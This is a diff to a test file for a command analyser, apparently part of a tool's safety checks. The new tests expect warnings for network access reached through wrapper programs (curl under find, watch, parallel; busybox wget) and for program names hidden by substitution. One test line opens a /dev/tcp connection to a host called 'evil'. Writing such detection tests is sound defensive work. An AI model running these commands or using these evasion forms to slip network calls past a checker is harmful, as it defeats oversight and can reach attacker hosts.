@@ -244,6 +244,29 @@ describe("warnings", () => {
   it.each(["sudo ls", "ls; su", "doas x", "env sudo x"])("%s is said to ask for more rights", (command) => {
     expect(analyzeCommand(command).warnings.join()).toContain("more rights");
   });
+  it.each([
+    "git push",
+    "git -C sub -c a=b push origin",
+    "git clone x",
+    "bash -c 'git push'",
+    "find . -exec curl {} ;",
+    "watch curl x",
+    "stdbuf -o0 curl x",
+    "parallel curl ::: a b",
+    "busybox wget x",
+    "cat < /dev/tcp/evil/80",
+  ])("%s does so by way of another program", (command) => {
+    expect(analyzeCommand(command).warnings.join()).toContain("Uses the network");
+  });
+
+  it.each(["$x a", "$(echo cu)rl x", "${a}b x", '"$x" y', "a; `b` c"])("%s hides its program", (command) => {
+    expect(analyzeCommand(command).warnings.join()).toContain("known only when it runs");
+  });
+
+  it.each(["git status", "git commit -m push", "git log -- fetch", "echo $x"])("%s needs no warning", (command) => {
+    expect(analyzeCommand(command).warnings).toEqual([]);
+  });
+
   it.each([10, 51, 1000, 10_000])("a network call behind %i others is still seen", (count) => {
     const { argv, warnings } = analyzeCommand(`${"true; ".repeat(count)}curl x`);
     expect(argv).toBeUndefined();
